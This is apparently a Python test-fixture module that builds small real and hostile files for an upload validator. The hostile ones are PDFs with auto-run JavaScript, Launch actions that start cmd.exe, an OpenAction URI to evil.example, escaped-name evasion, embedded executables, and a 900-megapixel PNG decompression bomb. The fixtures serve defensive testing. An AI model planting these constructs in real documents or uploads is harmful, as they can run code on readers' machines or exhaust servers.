"""Tiny but real files of every accepted evidence type, and hostile variants, built in memory.

Nothing binary is committed: each builder shows what the file is. PDFs are written by pikepdf (so
their cross-reference tables are right), images by Pillow, Office packages by hand with exactly the
parts the upload check reads ([Content_Types].xml, _rels/.rels and the main part).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

OOXML = "application/vnd.openxmlformats-officedocument."
OFFICE_DOCUMENT_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
MAIN_PARTS = {
    "docx": ("word/document.xml", OOXML + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", OOXML + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", OOXML + "presentationml.presentation.main+xml"),
}


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    buf = io.BytesIO()
    pdf.save(buf, deterministic_id="encryption" not in options, **options)
    return buf.getvalue()


@cache
def pdf_bytes(tag: str = "") -> bytes:
    """A one-page PDF; `tag` (its title) changes the bytes, and so the SHA-256, not the type."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if tag:
        pdf.docinfo[Name.Title] = tag
    return _save(pdf)


def pdf_with(build, **options) -> bytes:
    """A one-page PDF changed by `build(pdf)` before it is written (hostile variants)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    build(pdf)
    return _save(pdf, **options)


def pdf_open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')"))


def pdf_launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("calc.exe")))


def pdf_names_javascript(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject()")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))


def pdf_page_aa_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.launchURL('x')")))


def pdf_link_launch(pdf: pikepdf.Pdf) -> None:
    """A clickable link (not automatic) that would start a program."""
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 50, 50],
        A=Dictionary(S=Name.Launch, F=String("a.exe")),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))


def pdf_open_action_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://evil.example/?opened"))


def pdf_link_uri(pdf: pikepdf.Pdf) -> None:
    """An ordinary hyperlink, as Word writes them: acts only when clicked."""
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 50, 50],
        A=Dictionary(S=Name.URI, URI=String("https://www.example.edu.cn/")),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])  # "open at page 1": a destination


def pdf_xfa(pdf: pikepdf.Pdf) -> None:
    xdp = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xdp)


def _attach(pdf: pikepdf.Pdf, name: str, data: bytes) -> None:
    stream = pdf.make_stream(data)
    stream.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String(name), pdf.make_indirect(spec)]))
    )


def pdf_attached_exe(pdf: pikepdf.Pdf) -> None:
    _attach(pdf, "setup.exe", b"MZ\x90\x00" + b"\x00" * 60)


def pdf_attached_exe_renamed(pdf: pikepdf.Pdf) -> None:
    _attach(pdf, "readme.txt", b"MZ\x90\x00" + b"\x00" * 60)


def pdf_attached_spreadsheet(pdf: pikepdf.Pdf) -> None:
    _attach(pdf, "数据.csv", "学校,得分\n一小,90\n".encode())


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand from `objects` (numbered from 1, the first is the catalog), with a
    correct cross-reference table: for syntax that PDF libraries would normalise when writing."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_escaped_javascript() -> bytes:
    """`/J#61vaScript` and `/J#53` are `/JavaScript` and `/JS` once the names are decoded."""
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>",
    )


def pdf_truncated() -> bytes:
    """A real PDF cut in the middle: no cross-reference table, no trailer, no %%EOF."""
    whole = pdf_bytes("截断")
    return whole[: len(whole) // 2]


def pdf_without_xref() -> bytes:
    """Objects and a trailer but no cross-reference table (readers would have to rebuild it)."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def pdf_encrypted() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _save(pdf, encryption=pikepdf.Encryption(owner="o", user="secret"))


def image_bytes(fmt: str, color: str = "red", size: tuple[int, int] = (8, 8), mode: str = "RGB") -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new(mode, size, color).save(buf, format=fmt)
    return buf.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def huge_png(width: int = 30000, height: int = 30000) -> bytes:
    """A valid black-and-white PNG of `width`×`height` pixels (900 Mpx by default) in ~110 KB: one
    bit per pixel, every row the same, deflated. No image library is asked to hold it decoded."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    deflate = zlib.compressobj(9)
    parts = [deflate.compress(row * 256) for _ in range(height // 256)]
    parts += [deflate.compress(row * (height % 256)), deflate.flush()]
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims `width`×`height` but whose pixel data stops after one row."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    first_row = zlib.compress(b"\x00" + b"\x00" * ((width + 7) // 8))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", first_row)
        + _png_chunk(b"IEND", b"")
    )


def ooxml_bytes(
    kind: str = "docx",
    *,
    content_type: str | None = None,
    main_xml: bytes = b'<?xml version="1.0"?><root/>',
    content_types_xml: bytes | None = None,
    rels: bool = True,
    main: bool = True,
    extra: tuple[tuple[str, bytes], ...] = (),
) -> bytes:
    """A minimal OOXML package of `kind` (docx/xlsx/pptx); the keywords break one part at a time."""
    part, default_type = MAIN_PARTS[kind]
    if content_types_xml is None:
        content_types_xml = (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"'
            "/>"
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{part}" ContentType="{content_type or default_type}"/></Types>'
        ).encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types_xml)
        if rels:
            archive.writestr(
                "_rels/.rels",
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{OFFICE_DOCUMENT_REL}" Target="{part}"/>'
                "</Relationships>",
            )
        if main:
            archive.writestr(part, main_xml)
        for name, data in extra:
            archive.writestr(name, data)
    return buf.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    buf = io.BytesIO()
    workbook = Workbook()
    workbook.active["A1"] = "佐证"
    workbook.save(buf)
    return buf.getvalue()


def corrupt_member(package: bytes, member: str) -> bytes:
    """`package` with one byte of `member`'s compressed data flipped (its CRC no longer matches)."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo(member)
    data = bytearray(package)
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26 : info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    data[start + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def mp4_bytes() -> bytes:
    ftyp = (24).to_bytes(4, "big") + b"ftypisom" + b"\x00\x00\x02\x00" + b"isomiso2"
    mdat = (16).to_bytes(4, "big") + b"mdat" + b"\x00" * 8
    return ftyp + mdat
